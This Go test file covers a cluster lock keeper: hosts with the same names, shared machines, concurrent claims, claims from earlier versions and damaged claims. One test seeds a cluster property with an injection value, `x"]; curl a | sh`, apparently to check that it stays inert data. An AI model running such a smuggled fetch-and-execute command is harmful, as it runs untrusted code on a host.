package lock_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"golang.org/x/sys/unix"

	"umm/internal/cluster/lock"
	"umm/internal/cluster/run"
)

// machines are hosts n1, n2, ... of a network.
func machines(net string, n int) map[string]run.Machine {
	all := map[string]run.Machine{}
	for i := range n {
		name := fmt.Sprintf("n%d", i+1)
		all[name] = run.Machine{Address: net + name + ":22", Keys: []string{"SHA256:" + net + name}}
	}
	return all
}

func release(t *testing.T, ls ...*lock.Lock) {
	t.Helper()
	for _, l := range ls {
		must(t, l.Release(t.Context()))
	}
}

// Two clusters of one master, with hosts of the same names: each has its own run, at the same
// time, and sees that one only.
func TestClustersWithHostsOfTheSameNames(t *testing.T) {
	a := keeper(t, nil)
	b, bare := a, a
	a.Machines, b.Machines = machines("a", 3), machines("b", 3)
	_, la := acquire(t, a, "r1")
	_, lb := acquire(t, b, "r2")
	for _, c := range []struct {
		k   lock.Keeper
		has string
	}{{a, "r1"}, {b, "r2"}} {
		if s := c.k.Holder(t.Context()); s.OnMaster == nil || s.OnMaster.Run != c.has || !s.Working {
			t.Errorf("the cluster of %s stands %+v", c.has, s)
		}
		_, _, err := c.k.Acquire(t.Context(), claim("r3"))
		if held := wantHeld(t, err, c.has); !held.Working {
			t.Errorf("it says %+v", held)
		}
		wantHeld(t, c.k.Break(t.Context(), claim("r3")), c.has)
	}
	// Where nothing is known of the hosts each may be meant.
	if _, _, err := bare.Acquire(t.Context(), claim("r3")); err == nil {
		t.Error("a cluster of unknown hosts is free")
	}
	must(t, la.Detach())
	must(t, lb.Detach())
	must(t, a.Break(t.Context(), claim("r1")))
	if s := b.Holder(t.Context()); s.OnMaster == nil || s.OnMaster.Run != "r2" || s.Working {
		t.Errorf("it stands %+v", s)
	}
	_, la = acquire(t, a, "r4")
	_, lb = acquire(t, b, "r2")
	release(t, la, lb)
	if left, err := os.ReadDir(a.Dir); err != nil || len(left) != 1 || left[0].Name() != "lock" {
		t.Errorf("what is left is %v (%v)", left, err)
	}
}

// A machine is one run's only, whatever another configuration calls it.
func TestClustersWithAMachineInCommon(t *testing.T) {
	a := keeper(t, nil)
	b := a
	a.Machines, b.Machines = machines("a", 3), machines("b", 3)
	b.Machines["db"] = run.Machine{Address: "elsewhere:22", Keys: a.Machines["n3"].Keys}
	_, l := acquire(t, a, "r1")
	_, _, err := b.Acquire(t.Context(), claim("r2"))
	wantHeld(t, err, "r1")
	release(t, l)
	acquire(t, b, "r2")
}

// Of many that begin at once one has the cluster, and each cluster has one.
func TestManyAtOnce(t *testing.T) {
	k := keeper(t, nil)
	var mutex sync.Mutex
	var wait sync.WaitGroup
	got := map[string]int{}
	for i := range 24 {
		wait.Go(func() {
			one, net := k, string(rune('a'+i%3))
			one.Machines = machines(net, 2)
			_, l, err := one.Acquire(t.Context(), claim(fmt.Sprintf("r%d", i)))
			var held *lock.HeldError
			if err != nil && !errors.As(err, &held) {
				t.Error(err)
			}
			if err == nil {
				t.Cleanup(l.Pause)
				mutex.Lock()
				defer mutex.Unlock()
				got[net]++
			}
		})
	}
	wait.Wait()
	if fmt.Sprint(got) != "map[a:1 b:1 c:1]" {
		t.Errorf("the clusters have %v", got)
	}
}

// early is a claim as earlier versions kept it.
func early(t *testing.T, k lock.Keeper, id string) {
	t.Helper()
	must(t, os.MkdirAll(k.Dir, 0o700))
	must(t, os.WriteFile(filepath.Join(k.Dir, "claim"), []byte(`{"run":"`+id+`","by":"alice","master":"fuel","at":"2026-03-01T12:00:00Z"}`+"\n"), 0o600))
}

func TestAClaimOfAnEarlierVersion(t *testing.T) {
	for name, known := range map[string]map[string]run.Machine{"its machines are known": machines("a", 2), "nothing is known": nil} {
		t.Run(name, func(t *testing.T) {
			a := keeper(t, nil)
			a.Known = func(string) map[string]run.Machine { return known }
			b := a
			a.Machines, b.Machines = machines("a", 3), machines("b", 3)
			early(t, a, "r1")
			if s := a.Holder(t.Context()); s.OnMaster == nil || s.OnMaster.Run != "r1" || s.Working {
				t.Fatalf("it stands %+v", s)
			}
			_, _, err := a.Acquire(t.Context(), claim("r2"))
			wantHeld(t, err, "r1")
			wantHeld(t, a.Break(t.Context(), claim("r2")), "r1")
			_, lb, err := b.Acquire(t.Context(), claim("r3"))
			if known == nil {
				wantHeld(t, err, "r1")
			} else {
				must(t, err)
				release(t, lb)
			}
			_, l := acquire(t, a, "r1")
			release(t, l)
			_, l = acquire(t, a, "r2")
			release(t, l)
			early(t, a, "r1")
			must(t, a.Break(t.Context(), claim("r1")))
			if s := a.Holder(t.Context()); s != (lock.Holder{}) {
				t.Errorf("broken, it stands %+v", s)
			}
		})
	}
}

// An earlier version that is at work has the common lock for as long.
func TestAProcessOfAnEarlierVersionAtWork(t *testing.T) {
	k := keeper(t, nil)
	k.Machines = machines("a", 3)
	early(t, k, "r1")
	f, err := os.Create(filepath.Join(k.Dir, "lock"))
	must(t, err)
	t.Cleanup(func() { _ = f.Close() })
	must(t, unix.Flock(int(f.Fd()), unix.LOCK_EX))
	_, _, err = k.Acquire(t.Context(), claim("r1"))
	for _, err := range []error{err, k.Break(t.Context(), claim("r1"))} {
		if held := wantHeld(t, err, "r1"); !held.Working {
			t.Errorf("it says %+v", held)
		}
	}
	if s := k.Holder(t.Context()); s.OnMaster == nil || !s.Working {
		t.Errorf("it stands %+v", s)
	}
}

// A damaged claim is still that of the run by whose name its folder goes.
func TestADamagedClaim(t *testing.T) {
	a := keeper(t, nil)
	a.Known = func(string) map[string]run.Machine { return machines("a", 1) }
	b := a
	a.Machines, b.Machines = machines("a", 3), machines("b", 3)
	_, l := acquire(t, a, "r1")
	must(t, l.Detach())
	must(t, os.WriteFile(filepath.Join(a.Dir, "r1", "claim"), []byte("rubbish"), 0o600))
	_, _, err := a.Acquire(t.Context(), claim("r2"))
	wantHeld(t, err, "r1")
	_, l = acquire(t, b, "r2")
	release(t, l)
	must(t, a.Break(t.Context(), claim("r1")))
	acquire(t, a, "r2")
}

// What an engine has that no run is called can be taken off it, and gets into no query.
func TestAClaimOfNoRun(t *testing.T) {
	c := newCluster(t)
	k := c.keeper()
	_, l := acquire(t, k, "r1")
	must(t, l.Detach())
	must(t, k.Break(t.Context(), claim("r1")))
	c.do(func() {
		c.spread("n1", `<cluster_property_set id="umm-lock"><nvpair id="umm-lock-run" name="umm-run" value="x&quot;]; curl a | sh"/></cluster_property_set>`)
	})
	s := k.Holder(t.Context())
	if s.OnEngine == nil || s.OnEngine.Run != `x"]; curl a | sh` {
		t.Fatalf("it stands %+v", s)
	}
	_, _, err := k.Acquire(t.Context(), claim("r2"))
	wantHeld(t, err, s.OnEngine.Run)
	wantHeld(t, k.Break(t.Context(), lock.Claim{Run: "another; one"}), s.OnEngine.Run)
	must(t, k.Break(t.Context(), *s.OnEngine))
	_, l = acquire(t, k, "r2")
	// Where a run is on, it is not taken for such a one.
	if err := k.Break(t.Context(), lock.Claim{Run: "x y"}); err == nil || c.sets["n1"] == "" {
		t.Errorf("%v", err)
	}
	release(t, l)
	if err := keeper(t, nil).Break(t.Context(), lock.Claim{Run: "x y"}); err == nil {
		t.Error("nothing was broken")
	}
}
